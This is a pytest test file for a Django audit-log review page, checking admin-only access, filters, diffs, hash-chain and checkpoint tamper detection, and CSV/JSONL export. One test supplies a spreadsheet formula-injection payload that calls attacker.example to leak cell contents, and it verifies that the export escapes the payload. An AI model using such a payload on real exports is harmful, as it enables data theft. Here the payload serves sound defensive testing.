"""The audit review page: Admin-only, filters, the before/after diff, chain verification from
the page (intact and tampered) and the export of the filtered view."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from governance.models import AuditEntry
from sherlock.core.audit import audit, request_context
from tests.support import factories
from tests.support.audit import cut_tail, drop_audit_trigger, use_checkpoints

URL = reverse("governance:audit")


@pytest.fixture
def entries(admin_user, publisher):
    with request_context(request_id="req-alpha", ip="10.0.0.1"):
        first = audit(
            "governance.policy.update",
            actor=admin_user,
            target=("governance.publishingpolicy", 3, "Default"),
            before={"repetitions": 1, "name": "Default", "gone": True},
            after={"repetitions": 3, "name": "Default", "added": "yes"},
            reason="tighter gate",
        )
    with request_context(request_id="req-beta", ip="10.0.0.2"):
        second = audit(
            "agents.version.publish",
            actor=publisher,
            target=("agents.agentversion", 9, "support-bot v2"),
            after={"state": "published"},
        )
    third = audit("evaluations.run.finish", actor=None, target=("evaluations.run", 4, "run 4"))
    return first, second, third


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


def _sequences(response):
    return [row["entry"].sequence for row in response.context["rows"]]


@pytest.mark.parametrize("role", ["Editor", "Builder", "Publisher", None])
def test_only_admins_see_the_audit_page(client, entries, role):
    client.force_login(factories.user(f"user-{role}", role=role))
    assert client.get(URL).status_code == 404
    assert client.post(reverse("governance:audit-verify")).status_code == 404
    assert client.get(reverse("governance:audit-export", args=["csv"])).status_code == 404
    assert b"/governance/audit/" not in client.get(reverse("evaluations:run-list")).content


def test_an_anonymous_visitor_is_sent_to_log_in(client, entries):
    response = client.get(URL)
    assert response.status_code == 302 and "login" in response["Location"]


def test_the_admin_sees_every_entry_and_the_nav_link(admin_client, entries):
    response = admin_client.get(URL)
    assert response.status_code == 200
    assert set(_sequences(response)) >= {e.sequence for e in entries}
    assert b'href="/governance/audit/" aria-current="page">Audit' in response.content


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"actor": "publisher"}, [1]),
        ({"action": "governance.policy"}, [0]),
        ({"target": "agents.agentversion:9"}, [1]),
        ({"target": "run 4"}, [2]),
        ({"request_id": "req-alpha"}, [0]),
        ({"request_id": "req-alpha", "actor": "publisher"}, []),
    ],
)
def test_filters_narrow_the_list(admin_client, entries, params, expected):
    mine = {e.sequence for e in entries}
    shown = [s for s in _sequences(admin_client.get(URL, params)) if s in mine]
    assert shown == sorted((entries[i].sequence for i in expected), reverse=True)


def test_the_date_range_filter(admin_client, entries):
    today = timezone.localdate()
    yesterday = (today - timedelta(days=1)).isoformat()
    assert set(_sequences(admin_client.get(URL, {"since": today.isoformat()}))) >= {
        e.sequence for e in entries
    }
    assert _sequences(admin_client.get(URL, {"until": yesterday})) == []
    # A date that is not one is refused, as the API's ?since= is, not ignored.
    refused = admin_client.get(URL, {"since": "not a date", "action": "agents."})
    assert refused.status_code == 400 and _sequences(refused) == []
    assert "since: &#x27;not a date&#x27; is not a date" in refused.content.decode()


def test_before_and_after_are_shown_as_the_changed_keys(admin_client, entries):
    response = admin_client.get(URL, {"request_id": "req-alpha"})
    (row,) = response.context["rows"]
    assert row["diff"] == [
        ("added", "—", "yes"),
        ("gone", True, "—"),
        ("repetitions", 1, 3),
    ]
    assert "<b>repetitions</b>: <code>1</code> → <code>3</code>" in response.content.decode()
    (created,) = admin_client.get(URL, {"request_id": "req-beta"}).context["rows"]
    assert created["diff"] == [("state", "—", "published")]


def test_a_page_of_entries_takes_a_constant_number_of_queries(
    admin_client, entries, django_assert_max_num_queries
):
    admin_client.get(URL)  # warm the session and permission caches
    with django_assert_max_num_queries(12) as few:
        admin_client.get(URL)
    for n in range(60):
        audit("governance.test.many", after={"n": n}, before={"n": n - 1})
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = admin_client.get(URL)
    assert len(response.context["rows"]) == 50 and response.context["page"].has_next()


def test_verify_reports_an_intact_chain(admin_client, entries):
    response = admin_client.post(reverse("governance:audit-verify"))
    count = AuditEntry.objects.count()
    assert response.context["verification"]["broken"] is None
    assert f"intact: {count} entries checked" in response.content.decode()


def test_verify_names_the_first_broken_entry(admin_client, entries):
    second = entries[1]
    drop_audit_trigger()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE governance_auditentry SET reason = 'rewritten' WHERE sequence = %s",
            [second.sequence],
        )
    response = admin_client.post(reverse("governance:audit-verify") + "?actor=admin")
    body = response.content.decode()
    assert f"broken at entry #{second.sequence}: hash does not match" in body
    assert response.context["verification"]["entry"].pk == second.pk
    # The filters survive the verification.
    assert response.context["filters"]["actor"] == "admin"


def test_verify_says_when_checkpoints_are_off(admin_client, entries, settings):
    settings.SHERLOCK_AUDIT_KEY = ""
    settings.SHERLOCK_AUDIT_CHECKPOINT_FILE = None
    response = admin_client.post(reverse("governance:audit-verify"))
    outcome = response.context["verification"]["checkpoints"]
    assert outcome.tone == "warn"
    assert "checkpoints off (SHERLOCK_AUDIT_KEY is not set)" in response.content.decode()


def test_verify_holds_the_log_to_its_checkpoints(admin_client, entries, settings, tmp_path):
    from django.core.management import call_command

    use_checkpoints(settings, tmp_path)
    call_command("audit_checkpoint")
    response = admin_client.post(reverse("governance:audit-verify"))
    assert response.context["verification"]["checkpoints"].tone == "pass"
    assert "checkpoints verified: 1" in response.content.decode()

    drop_audit_trigger()
    cut_tail(entries[2].sequence)
    response = admin_client.post(reverse("governance:audit-verify"))
    body = response.content.decode()
    assert response.context["verification"]["broken"] is None  # the chain alone is blind
    assert response.context["verification"]["checkpoints"].tone == "fail"
    assert f"entry #{entries[2].sequence} missing: the log ends at #{entries[1].sequence}" in body


def test_export_csv_of_the_filtered_view(admin_client, entries):
    response = admin_client.get(
        reverse("governance:audit-export", args=["csv"]), {"actor": "publisher"}
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [int(r["sequence"]) for r in rows] == [entries[1].sequence]
    assert rows[0]["hash"] == entries[1].hash
    export = AuditEntry.objects.get(action="governance.audit.export")
    assert export.after == {"format": "csv", "entries": 1, "filters": {"actor": "publisher"}}


def test_export_jsonl_of_the_filtered_view(admin_client, entries):
    response = admin_client.get(
        reverse("governance:audit-export", args=["jsonl"]), {"request_id": "req-alpha"}
    )
    lines = [json.loads(line) for line in response.content.decode().splitlines()]
    assert [line["sequence"] for line in lines] == [entries[0].sequence]
    assert lines[0]["after"] == {"repetitions": 3, "name": "Default", "added": "yes"}


def test_an_unknown_export_format_is_404(admin_client, entries):
    assert admin_client.get(reverse("governance:audit-export", args=["xml"])).status_code == 404


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
    builder, admin_user, client, password
):
    # Any free text that reaches an entry reaches the export: here a grant's reason (a
    # Builder's publish request or a Publisher's bypass reason go the same way).
    r = factories.api(admin_user).post(
        "/api/v1/role-grants/",
        {
            "user": builder.username,
            "role": "Publisher",
            "reason": '=HYPERLINK("http://attacker.example/?"&A1,"open the release notes")',
        },
        format="json",
    )
    assert r.status_code == 201, r.json()
    client.login(username=admin_user.username, password=password)
    response = client.get(reverse("governance:audit-export", args=["csv"]))
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"open the release notes")' in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- sign-ins apart -----------------------------------------------------------------


@pytest.fixture
def sign_ins(admin_user, publisher):
    return [
        audit("auth.user.login", actor=publisher, target=publisher),
        audit("auth.user.login_failed", target=("auth.user", "", "mallory")),
        audit("auth.user.logout", actor=publisher, target=publisher),
    ]


def test_sign_ins_are_listed_apart_not_among_the_governance_events(admin_client, entries, sign_ins):
    response = admin_client.get(URL)
    shown = set(_sequences(response))
    assert {e.sequence for e in entries} <= shown
    assert not shown & {e.sequence for e in sign_ins}
    apart = response.context["sign_ins"]
    assert {e.sequence for e in sign_ins} <= {e.sequence for e in apart["rows"]}
    body = response.content.decode()
    assert 'id="sign-ins"' in body and "mix them in" in body
    # In the page's body, once, not inside its <title> (the section had landed in the title block).
    title = body[body.index("<title>") : body.index("</title>")]
    assert "sign-ins" not in title and body.count('id="sign-ins-apart"') == 1


def test_sign_ins_can_be_mixed_in_or_shown_alone(admin_client, entries, sign_ins):
    mixed = set(_sequences(admin_client.get(URL, {"sign_ins": "show"})))
    assert {e.sequence for e in sign_ins} | {e.sequence for e in entries} <= mixed
    alone = admin_client.get(URL, {"action": "auth.user.log"})
    assert set(_sequences(alone)) >= {e.sequence for e in sign_ins}
    assert not set(_sequences(alone)) & {e.sequence for e in entries}


def test_sign_ins_stay_in_the_chain_and_the_export(admin_client, entries, sign_ins):
    count = AuditEntry.objects.count()
    verified = admin_client.post("/governance/audit/verify/")
    assert f"intact: {count} entries checked" in verified.content.decode()
    export = admin_client.get(reverse("governance:audit-export", args=["jsonl"]))
    exported = {json.loads(line)["sequence"] for line in export.content.decode().splitlines()}
    assert {e.sequence for e in sign_ins} <= exported


def test_the_page_with_sign_ins_apart_keeps_a_constant_number_of_queries(
    admin_client, entries, sign_ins, django_assert_max_num_queries
):
    admin_client.get(URL)
    with django_assert_max_num_queries(12) as few:
        admin_client.get(URL)
    for _ in range(30):
        audit("auth.user.login", actor=None, target=("auth.user", "", "someone"))
    with django_assert_max_num_queries(len(few.captured_queries)):
        admin_client.get(URL)
